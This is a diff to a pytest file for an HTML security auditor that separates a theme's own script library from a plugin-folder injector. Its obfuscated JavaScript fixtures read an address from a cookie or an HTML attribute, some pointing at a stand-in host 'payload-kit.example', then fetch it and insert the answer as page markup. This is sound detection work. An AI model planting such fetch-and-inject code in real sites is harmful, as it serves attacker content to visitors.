@@ -1352,15 +1352,16 @@ def test_a_libraries_namespace_vouches_for_no_code_that_reaches_out(
 
 def test_a_themes_library_loading_its_next_posts_is_still_its_own(audit_html: AuditHtml
                                                                   ) -> None:
-    """A theme's library requests its next posts and sets them as markup (JNews' own does
-    both, `XMLHttpRequest` and `innerHTML`): with no address in its code, as written or in
-    pieces, the request goes where the page's own code points it, and the build vouches for
-    it; the same code asking another site's address of pieces keeps its finding."""
+    """A theme's library requests its next posts and hands the answer to the caller's
+    callback (JNews' own `ajax` helper: `XMLHttpRequest`, then `o.call(void 0, c.response)`;
+    `innerHTML` set elsewhere): with no address in its code, as written or in pieces, the
+    request goes where the page's own code points it, and the build vouches for it; the same
+    code asking another site's address of pieces keeps its finding."""
     words = [*THEME_WORDS, "XMLHttpRequest", "open", "GET", "onload", "innerHTML",
-             "responseText"]
-    more = (f"w[{_at(_N + 7)}]=function(u,el){{var x=new w[{_at(_N)}]();x[{_at(_N + 1)}]("
-            f"{_at(_N + 2)},u);x[{_at(_N + 3)}]=function(){{el[{_at(_N + 4)}]=x["
-            f"{_at(_N + 5)}]}};x.send()}};")
+             "response", "call"]
+    more = (f"w[{_at(_N + 7)}]=function(u,cb,el){{var x=new w[{_at(_N)}]();x[{_at(_N + 1)}]("
+            f"{_at(_N + 2)},u);x[{_at(_N + 3)}]=function(){{cb[{_at(_N + 6)}](void 0,x["
+            f"{_at(_N + 5)}])}};x.send();el[{_at(_N + 4)}]=''}};")
     url = URL.replace("news.example", "harbour.example")
     own = audit_html(_theme_library_page(words=[*words, "loadMore"], library=THEME_LIBRARY + more),
                      url=url)
@@ -1377,37 +1378,89 @@ def test_a_themes_library_loading_its_next_posts_is_still_its_own(audit_html: Au
             if f.kind == "obfuscated-script"] == expected
 
 
-@pytest.mark.parametrize(("markup", "script_attrs", "vouched"), [
+# a plugin-folder injector's tail: reads its address where the page's markup never shows
+# it (a cookie its server set), requests it and sets the answer as the page's markup
+_ANSWER_WORDS = [*THEME_WORDS, "cookie", "fetch", "then", "text", "innerHTML", "querySelector",
+                 "split", "XMLHttpRequest", "open", "GET", "onload", "responseText",
+                 "insertAdjacentHTML", "beforeend"]
+_COOKIE = (f"var u=document[{_at(_N)}][{_at(_N + 6)}]('pl=')[1],b=document[{_at(_N + 5)}]"
+           "('.harbourline-block');")
+_FETCHED = f"w[{_at(_N + 1)}](u)[{_at(_N + 2)}](function(r){{return r[{_at(_N + 3)}]()}})"
+
+
+@pytest.mark.parametrize(("tail", "vouched"), [
+    # the answer of a fetch set as markup, by a callback or by an arrow
+    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](function(t){{b[{_at(_N + 4)}]=t}});", False),
+    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](t=>b[{_at(_N + 12)}]({_at(_N + 13)},t));", False),
+    # an XMLHttpRequest's answer set as markup where it loads
+    (_COOKIE + f"var x=new w[{_at(_N + 7)}]();x[{_at(_N + 8)}]({_at(_N + 9)},u);x["
+     f"{_at(_N + 10)}]=function(){{b[{_at(_N + 4)}]=x[{_at(_N + 11)}]}};x.send();", False),
+    # the same request whose answer is read as data (the theme's options), and markup set
+    # from the library's own strings: what a theme's library does
+    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](function(t){{w[{_at(0)}].n=t}});b[{_at(_N + 4)}]='';",
+     True),
+], ids=["fetch then markup", "arrow, insertAdjacentHTML", "XHR onload", "answer read as data"])
+def test_a_library_setting_a_requests_answer_as_markup_is_not_vouched_for(
+        audit_html: AuditHtml, tail: str, vouched: bool) -> None:
+    """Where the address comes from (a server-set cookie, a configuration) the page does not
+    show, so the build vouches only for a request whose answer the code reads as data: one
+    whose answer it sets as markup itself (`innerHTML`, `insertAdjacentHTML`, `.html()`,
+    `write`) is an injector's fetch-and-show, and keeps the finding the code has without
+    the build (revD34's cookie-address reproducer was vouched for)."""
+    url = URL.replace("news.example", "harbour.example")
+    library = THEME_LIBRARY + tail
+    bare = [f.severity for f in audit_html(_theme_library_page(
+        head="", words=_ANSWER_WORDS, library=library), url=url).findings
+        if f.kind == "obfuscated-script"]
+    built = audit_html(_theme_library_page(words=_ANSWER_WORDS, library=library), url=url)
+    assert bare == [M]
+    assert [f.severity for f in built.findings if f.kind == "obfuscated-script"] == (
+        [] if vouched else bare), built.findings
+
+
+@pytest.mark.parametrize(("markup", "script_attrs", "attr", "vouched"), [
     # the address in a `data-` attribute the injector also writes into the markup
     ("<div class='harbourline-block' data-feed='https://payload-kit.example/p'></div>", "",
-     False),
+     "data-feed", False),
     # the address on the script element itself, read through document.currentScript
-    (THEME_MARKUP, " data-feed='https://payload-kit.example/p'", False),
+    (THEME_MARKUP, " data-feed='https://payload-kit.example/p'", "data-feed", False),
     # the scheme in capitals, or left out (`//host/…`)
     ("<div class='harbourline-block' data-feed=' HTTPS://Payload-Kit.example/p'></div>", "",
-     False),
-    ("<div class='harbourline-block' data-feed='//payload-kit.example/p'></div>", "", False),
+     "data-feed", False),
+    ("<div class='harbourline-block' data-feed='//payload-kit.example/p'></div>", "",
+     "data-feed", False),
+    # an attribute of no meaning in HTML, on the markup or the script tag, read by name
+    # (was vouched for: only `data-` attributes were asked)
+    ("<div class='harbourline-block' feed-src='https://payload-kit.example/p'></div>", "",
+     "feed-src", False),
+    (THEME_MARKUP, " pl='https://payload-kit.example/p'", "pl", False),
     # the site's own address handed so, or another site's in an attribute the code never
-    # reads: the theme's library loading its next posts, vouched for as before
+    # reads (nor in an attribute HTML gives a meaning: a link's href): the theme's library
+    # loading its next posts, vouched for as before
     ("<div class='harbourline-block' data-feed='https://harbour.example/page/2'></div>", "",
-     True),
+     "data-feed", True),
     ("<div class='harbourline-block' data-feed='/page/2' "
-     "data-share='https://social-kit.example/s'></div>", "", True),
-], ids=["data attribute", "own script's attribute", "capitals", "no scheme", "own address",
-        "attribute not read"])
+     "data-share='https://social-kit.example/s'></div>", "", "data-feed", True),
+    ("<div class='harbourline-block' data-feed='/page/2'><a href='https://social-kit.example/s'>"
+     "s</a></div>", "", "data-feed", True),
+], ids=["data attribute", "own script's attribute", "capitals", "no scheme",
+        "custom attribute", "custom attribute of the script", "own address",
+        "attribute not read", "a link's href"])
 def test_a_library_fetching_an_address_the_markup_hands_it_is_not_vouched_for(
-        audit_html: AuditHtml, markup: str, script_attrs: str, vouched: bool) -> None:
+        audit_html: AuditHtml, markup: str, script_attrs: str, attr: str, vouched: bool
+) -> None:
     """The build's vouching holds for a request whose address the page's own code points it
-    at; an injector in a plugin folder that writes another site's address into a `data-`
-    attribute (of the markup, or of its own script tag) and requests it from code that
-    names no address is no theme library: the request's answer set as markup is the payload."""
-    words = [*THEME_WORDS, "querySelector", "[data-feed]", "getAttribute", "data-feed",
+    at; an injector in a plugin folder that writes another site's address into an attribute
+    (a `data-` one or one of no meaning in HTML, of the markup or of its own script tag) and
+    requests it from code that names no address is no theme library, whatever it does with
+    the answer (here: keeps it as data; set as markup, the answer voids the vouching itself)."""
+    words = [*THEME_WORDS, "querySelector", f"[{attr}]", "getAttribute", attr,
              "fetch", "then", "text", "innerHTML", "currentScript"]
     n = len(THEME_WORDS)
-    more = (f"var e=document[{_at(n + 9)}]||document[{_at(n)}]({_at(n + 1)}),b=document["
+    more = (f"var e=document[{_at(n + 8)}]||document[{_at(n)}]({_at(n + 1)}),b=document["
             f"{_at(n)}]('.harbourline-block');w[{_at(n + 4)}](e[{_at(n + 2)}]({_at(n + 3)}))"
             f"[{_at(n + 5)}](function(r){{return r[{_at(n + 6)}]()}})[{_at(n + 5)}]("
-            f"function(t){{b[{_at(n + 7)}]=t}});")
+            f"function(t){{w[{_at(0)}].n=t}});")
     code = obfuscated(words, THEME_LIBRARY + more)
     html = page(head=THEME_BUILD + f"<script{script_attrs}>{code}</script>", body=markup)
     report = audit_html(html, url=URL.replace("news.example", "harbour.example"))
